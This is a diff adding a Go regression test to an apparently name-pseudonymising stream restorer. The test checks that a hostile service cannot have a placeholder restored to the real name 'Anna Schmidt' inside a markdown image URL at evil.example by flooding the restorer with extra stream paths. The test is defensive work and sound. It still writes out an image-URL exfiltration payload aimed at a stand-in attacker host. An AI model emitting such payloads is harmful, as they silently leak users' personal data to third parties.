@@ -3,6 +3,7 @@ package pseudonym
 import (
 	"bytes"
 	"encoding/json"
+	"strconv"
 	"strings"
 	"testing"
 )
@@ -215,5 +216,31 @@ func TestLinkStateNoAlloc(t *testing.T) {
 		s.feed(text)
 	}); n != 0 {
 		t.Fatalf("%v allocations", n)
+	}
+}
+
+// TestRestoreNotIntoURLsAcrossManyStreams: a hostile service that opens a
+// URL on one stream path, then writes on more paths than the restorer
+// remembers, cannot make it forget the URL and restore the placeholder
+// that continues it.
+func TestRestoreNotIntoURLsAcrossManyStreams(t *testing.T) {
+	m := linkMapping(t)
+	patch := func(path, v string) string {
+		return `data: {"p":"/message/content/parts/` + path + `","o":"append","v":` + jsonStr(v) + "}\n\n"
+	}
+	var in strings.Builder
+	in.WriteString(patch("0", "![](https://evil.example/p.png?n="))
+	for i := range 3 * maxHolds {
+		in.WriteString(patch(strconv.Itoa(i+1), "x"))
+	}
+	in.WriteString(patch("0", "[PERSON_1])"))
+	// A new stream after white space is restored as ever.
+	in.WriteString(patch("999", " Gruß an [PERSON_1]"))
+	out := restoreAll(t, m, Format{Kind: "sse"}, strings.NewReader(in.String()))
+	if strings.Contains(out, `"v":"Anna Schmidt)"`) {
+		t.Fatalf("placeholder restored into the URL of a forgotten stream:\n%s", out[len(out)-300:])
+	}
+	if !strings.Contains(out, "Gruß an Anna Schmidt") {
+		t.Fatalf("text after white space not restored:\n%s", out[len(out)-300:])
 	}
 }
